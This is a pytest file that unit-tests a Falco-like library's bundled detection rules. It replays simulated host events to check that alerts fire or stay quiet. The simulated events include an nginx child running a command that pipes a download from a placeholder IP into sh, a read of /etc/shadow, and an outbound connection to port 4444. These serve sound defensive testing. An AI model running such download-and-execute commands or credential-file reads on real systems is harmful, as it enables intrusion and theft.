"""Unit tests for falcolib's bundled default rules, written with falcolib's pytest plugin.

Run with `pytest examples/test_default_rules.py`. The fixtures come from the
`falcolib` pytest plugin, installed with falcolib: `falco_host` builds what
happened on a host in memory, `falco_run` replays it through the rules
(the bundled defaults unless told otherwise) and returns the alerts.
"""


class TestShellInContainer:
    def test_shell_in_container_fires(self, falco_host, falco_run):
        web = falco_host.container("a1b2c3d4e5f6", image="nginx:1.25")
        web.process("nginx").spawn("bash", ["-i"], tty=34816)
        alerts = falco_run(falco_host)
        alerts.assert_fires("Shell Spawned in Container", times=1).assert_fields(
            **{"container.id": "a1b2c3d4e5f6", "proc.name": "bash"})

    def test_shell_on_the_host_is_quiet(self, falco_host, falco_run):
        falco_host.process("sshd").spawn("bash")
        falco_run(falco_host).assert_never("Shell Spawned in Container")


class TestServerChild:
    def test_web_server_spawning_a_shell_fires(self, falco_host, falco_run):
        nginx = falco_host.process("nginx", user="www-data")
        nginx.spawn("sh", ["-c", "curl http://203.0.113.9/x | sh"])
        falco_run(falco_host).assert_fires("Unexpected Child of Server Process", times=1) \
            .assert_output_contains("parent=nginx", "child=sh")

    def test_web_server_workers_are_quiet(self, falco_host, falco_run):
        falco_host.process("nginx").spawn("nginx", ["-g", "worker"])
        falco_run(falco_host).assert_never("Unexpected Child of Server Process")


class TestSensitiveRead:
    def test_untrusted_reader_of_shadow_fires(self, falco_host, falco_run):
        falco_host.process("python3").open("/etc/shadow")
        falco_run(falco_host).assert_fires("Read of Sensitive File", times=1) \
            .assert_fields(**{"fd.name": "/etc/shadow", "proc.name": "python3"})

    def test_sshd_reading_shadow_is_quiet(self, falco_host, falco_run):
        falco_host.process("sshd").open("/etc/shadow")
        falco_run(falco_host).assert_never("Read of Sensitive File")

    def test_failed_open_is_quiet(self, falco_host, falco_run):
        falco_host.process("python3").open("/etc/shadow", res=-13)
        falco_run(falco_host).assert_never("Read of Sensitive File")


class TestDevWrite:
    def test_regular_file_created_under_dev_fires(self, falco_host, falco_run):
        falco_host.process("sh").open("/dev/.hidden", "O_WRONLY|O_CREAT")
        falco_run(falco_host).assert_fires("File Created Below /dev", times=1)

    def test_dev_null_and_shm_are_quiet(self, falco_host, falco_run):
        p = falco_host.process("sh")
        p.open("/dev/null", "O_WRONLY|O_CREAT")
        p.open("/dev/shm/cache", "O_RDWR|O_CREAT")
        falco_run(falco_host).assert_never("File Created Below /dev")


class TestSystemBinaryConnect:
    def test_ls_connecting_out_fires(self, falco_host, falco_run):
        falco_host.process("ls").connect("203.0.113.9", 4444)
        falco_run(falco_host).assert_fires("System Binary Network Connection", times=1)

    def test_curl_connecting_out_is_quiet(self, falco_host, falco_run):
        falco_host.process("curl").connect("203.0.113.9", 443)
        falco_run(falco_host).assert_never("System Binary Network Connection")

    def test_loopback_is_quiet(self, falco_host, falco_run):
        falco_host.process("cat").connect("127.0.0.1", 8080)
        falco_run(falco_host).assert_never("System Binary Network Connection")
